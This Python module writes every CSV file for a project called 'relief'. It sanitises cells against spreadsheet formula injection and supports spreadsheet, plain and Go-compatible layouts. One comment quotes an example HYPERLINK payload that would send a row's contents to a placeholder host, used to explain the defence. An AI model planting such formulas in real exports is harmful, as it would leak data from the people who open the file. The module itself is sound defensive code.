"""CSV formats: every CSV relief writes (county pulls, packets, the audit diff, the reference
tool's files) goes through one formula-safe, owner-only writer (:func:`write_csv`)."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from enum import Enum
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

from relief.jobs.warehouse.access import private_file

# --- CSV: one writer for every CSV relief writes ---------------------------------------------
#
# Formula safety (OWASP "CSV Injection"): a spreadsheet evaluates a cell that starts with
# = + - @, TAB or CR as a formula (``=HYPERLINK("http://x/?"&A2, "click")`` sends a row
# away), and Excel and LibreOffice skip leading spaces before deciding. Such a value is
# written with a single quote in front, which spreadsheets read as "this is text". Two kinds
# of value are left alone because they cannot be formulas and a reader compares them byte
# for byte: a plain number (``-1.0``, ``+3``, ``-2.5e3``) and the reference tool's ``-``
# placeholder (a dash alone, spaces around it allowed).

# Characters a spreadsheet skips before looking at the first one (ASCII and Unicode spaces).
_SPACE = " \f\v\n\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff"
_FORMULA_START = rf"^(?:[\t\r]|[{_SPACE}]*[=+\-@])"
_HARMLESS = rf"^[{_SPACE}]*(?:-|[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?)[{_SPACE}]*$"
FORMULA_PREFIX = "'"


def formula_safe(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """Text values a spreadsheet would evaluate, prefixed with ``'``; the rest unchanged."""
    starts = pc.fill_null(pc.match_substring_regex(values, _FORMULA_START), False)
    if not pc.any(starts).as_py():  # the usual column: nothing to look at twice
        return values
    risky = pc.and_not(starts, pc.fill_null(pc.match_substring_regex(values, _HARMLESS), False))
    return pc.if_else(risky, pc.binary_join_element_wise(FORMULA_PREFIX, values, ""), values)


class CsvStyle(Enum):
    """How a CSV file is laid out; every style is formula-safe (:func:`formula_safe`), UTF-8,
    and ends lines in LF.

    - ``SPREADSHEET`` (county pulls, packets): Arrow's CSV writer, every text field quoted,
      numbers, dates and booleans bare, a null an empty field (so an empty string ``""`` and
      a null stay apart), and a UTF-8 byte-order mark so Excel reads accented names as UTF-8.
    - ``PLAIN`` (the audit diff, read by scripts): as SPREADSHEET without the byte-order mark.
    - ``GO`` (the reference tool's files): Go's encoding/csv, which the reference writes with:
      a field is quoted when it holds a comma, a quote, CR or LF, starts with white space or
      is exactly ``\\.``; no byte-order mark.
    """

    SPREADSHEET = "spreadsheet"
    PLAIN = "plain"
    GO = "go"


UTF8_BOM = b"\xef\xbb\xbf"
# Go's encoding/csv (fieldNeedsQuotes): a comma, quote, CR or LF anywhere, a leading
# white-space rune (unicode.IsSpace), or the field \. alone; an empty field is not quoted.
_GO_NEEDS_QUOTES = r'[,"\r\n]|^[\t\n\x{0B}\f\r \x{85}\x{A0}\p{Z}]|^\\\.$'


def _as_text(values: pa.Array | pa.ChunkedArray) -> pa.Array:
    array = values.combine_chunks() if isinstance(values, pa.ChunkedArray) else values
    return array if pa.types.is_string(array.type) else pc.cast(array, pa.string())


def go_fields(values: pa.Array | pa.ChunkedArray) -> pa.Array:
    """Each value as Go's encoding/csv writes it, formula-safe; a null is an empty field."""
    text = formula_safe(_as_text(values))
    needs = pc.match_substring_regex(text, _GO_NEEDS_QUOTES)
    if pc.any(needs).as_py():
        quoted = pc.binary_join_element_wise('"', pc.replace_substring(text, '"', '""'), '"', "")
        text = pc.if_else(needs, quoted, text)
    return pc.fill_null(text, "") if text.null_count else text


def go_lines(columns: Sequence[pa.Array | pa.ChunkedArray]) -> pa.ChunkedArray:
    """One Go-style CSV line (without its LF) per row of ``columns``."""
    # One contiguous array per column: element-wise kernels over many small chunks are slow.
    fields = [go_fields(c) for c in columns]
    return pa.chunked_array([pc.binary_join_element_wise(*fields, ",")], pa.string())


def write_go_lines(path: Path, header: Sequence[str], lines: pa.ChunkedArray) -> Path:
    """``header`` and ``lines`` (from :func:`go_lines`) as one owner-only file."""
    head = go_lines([pa.array([n], pa.string()) for n in header])[0].as_py()
    with private_file(path) as temporary, temporary.open("w", encoding="utf-8", newline="") as out:
        out.write(f"{head}\n")
        for chunk in lines.chunks:
            for start in range(0, len(chunk), _WRITE_ROWS):
                values = chunk.slice(start, _WRITE_ROWS).to_pylist()
                if values:
                    out.write("\n".join(values))
                    out.write("\n")
    return path


_WRITE_ROWS = 20_000


def formula_safe_table(table: pa.Table) -> pa.Table:
    """Every text column through :func:`formula_safe` (numbers, dates and booleans cannot be
    formulas: a negative number is data)."""
    for index, column in enumerate(table.columns):
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            safe = formula_safe(column)
            if safe is not column:
                table = table.set_column(index, table.field(index), safe)
    return table


def write_csv(path: Path, table: pa.Table, style: CsvStyle = CsvStyle.SPREADSHEET) -> Path:
    """Every row of ``table`` (flat columns: text, numbers, dates, booleans) as an owner-only
    CSV file in ``style``; the one way relief writes CSV."""
    if style is CsvStyle.GO:
        return write_go_lines(path, table.column_names, go_lines(table.columns))
    with private_file(path) as temporary, temporary.open("wb") as out:
        if style is CsvStyle.SPREADSHEET:
            out.write(UTF8_BOM)
        pacsv.write_csv(
            formula_safe_table(table), out, write_options=pacsv.WriteOptions(quoting_style="needed")
        )
    return path


def rows_table(header: Sequence[str], rows: Iterable[Sequence[str | None]]) -> pa.Table:
    """Rows of text (a packet's, a diff's) as a table for :func:`write_csv`; '' is a null."""
    data: list[list[str | None]] = [[] for _ in header]
    for row in rows:
        if len(row) != len(header):
            raise ValueError(f"a row has {len(row)} fields, the header {len(header)}")
        for column, value in zip(data, row, strict=True):
            column.append(value or None)
    return pa.table([pa.array(c, pa.string()) for c in data], names=list(header))
